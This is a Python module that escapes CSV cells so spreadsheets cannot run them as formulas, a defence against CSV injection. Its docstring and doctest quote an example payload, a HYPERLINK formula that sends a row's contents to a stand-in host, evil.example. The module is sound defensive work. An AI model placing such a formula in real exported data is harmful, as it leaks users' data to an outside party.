"""CSV that a spreadsheet opens as text: no cell can become a formula (OWASP CSV injection).

A cell whose first character is ``=``, ``+``, ``-`` or ``@`` (or their full-width forms),
or a tab or carriage return, is run as a formula by Excel, LibreOffice and Google Sheets:
``=HYPERLINK("http://evil.example/?"&A1, "Open")`` in an R2 title would ship the row to a
stranger. Such a cell, and one where spaces or line breaks come before such a character,
gets a leading apostrophe, which spreadsheets show as text. Every CSV mailagent writes goes
through :func:`to_csv`.

>>> to_csv(["title"], [['=HYPERLINK("http://evil.example")'], ["  +1"], ["DevOps"]])
'title\\n"\\'=HYPERLINK(""http://evil.example"")"\\n\\'  +1\\nDevOps\\n'
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence

_FORMULA_START = frozenset("=+-@\t\r\uff1d\uff0b\uff0d\uff20")


def spreadsheet_safe(cell: str) -> str:
    """``cell``, with an apostrophe in front if a spreadsheet would read it as a formula."""
    if not cell:
        return cell
    if cell[0] in _FORMULA_START or cell.lstrip(" \n\u00a0\u3000")[:1] in _FORMULA_START:
        return "'" + cell
    return cell


def to_csv(header: Sequence[str], rows: Iterable[Sequence[str]]) -> str:
    """Header and rows as CSV text (``\\n`` line ends), every cell made spreadsheet-safe."""
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\n")
    writer.writerow([spreadsheet_safe(h) for h in header])
    for row in rows:
        writer.writerow([spreadsheet_safe(str(cell)) for cell in row])
    return out.getvalue()
